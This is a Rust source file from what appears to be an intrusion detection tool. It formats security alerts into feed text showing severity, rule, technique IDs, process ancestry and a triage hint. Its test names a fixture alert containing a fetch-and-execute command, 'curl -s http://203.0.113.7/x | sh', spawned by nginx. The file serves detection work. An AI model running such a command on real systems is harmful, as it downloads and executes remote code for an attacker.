use std::fmt::Write as _;

use vigie_event::{Severity, Signal, SignalState};

use super::escape::push_escaped;

/// A signal as the feed shows it: a headline, and what to look at.
pub(super) fn signal_block(signal: &Signal) -> String {
    let mut block = format!("!! {} ", signal.rule.severity.name().to_uppercase());
    push_escaped(&mut block, &signal.rule.title);
    if signal.state == SignalState::Closed {
        // Writing to a String cannot fail.
        let _ = write!(block, " ({} matches)", signal.count);
    }
    block.push_str(" [");
    push_escaped(&mut block, &signal.rule.techniques.join(", "));
    block.push_str("]\n   ");
    push_escaped(&mut block, &signal.message);
    block.push_str("\n   ");
    push_escaped(&mut block, signal.event.process.image.executable_name());
    for ancestor in signal.event.process.ancestors() {
        block.push_str(" ← ");
        push_escaped(&mut block, ancestor.image.executable_name());
    }
    block.push_str("\n   ");
    push_escaped(&mut block, signal.rule.triage.lines().next().unwrap_or_default());
    block
}

/// ANSI colour.
pub(super) fn color(severity: Severity) -> &'static str {
    match severity {
        Severity::Info | Severity::Low => "36",
        Severity::Medium => "33",
        Severity::High => "31",
        Severity::Critical => "1;31",
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fixtures;

    #[test]
    fn a_signal_is_told_with_its_rule_its_message_who_led_to_it_and_what_to_look_at() {
        let expected = "!! CRITICAL Web server spawned a shell [T1505.003, T1059.004]
   bash started by nginx: bash -c curl -s http://203.0.113.7/x | sh
   bash ← nginx ← systemd
   Read the web server's access log at that second.";
        assert_eq!(signal_block(&fixtures::signal()), expected);
        let closed = Signal { state: SignalState::Closed, count: 7, ..fixtures::signal() };
        let expected = "!! CRITICAL Web server spawned a shell (7 matches) [";
        assert!(signal_block(&closed).starts_with(expected), "{}", signal_block(&closed));
    }
}
